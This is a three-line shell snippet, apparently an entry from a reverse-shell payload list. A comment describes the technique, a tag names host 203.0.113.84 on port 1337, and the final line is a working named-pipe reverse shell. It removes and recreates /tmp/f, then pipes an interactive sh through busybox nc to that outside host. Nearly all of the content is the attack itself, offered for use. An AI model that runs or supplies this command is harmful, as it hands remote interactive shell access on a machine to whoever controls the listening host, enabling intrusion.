# mkfifo and busybox nc: the shell has a fifo and a pipe, nc has the socket
#pool 203.0.113.84:1337:cmd
rm -f /tmp/f; mkfifo /tmp/f; timeout 9 sh -c 'cat /tmp/f | sh -i 2>&1 | busybox nc 203.0.113.84 1337 > /tmp/f'
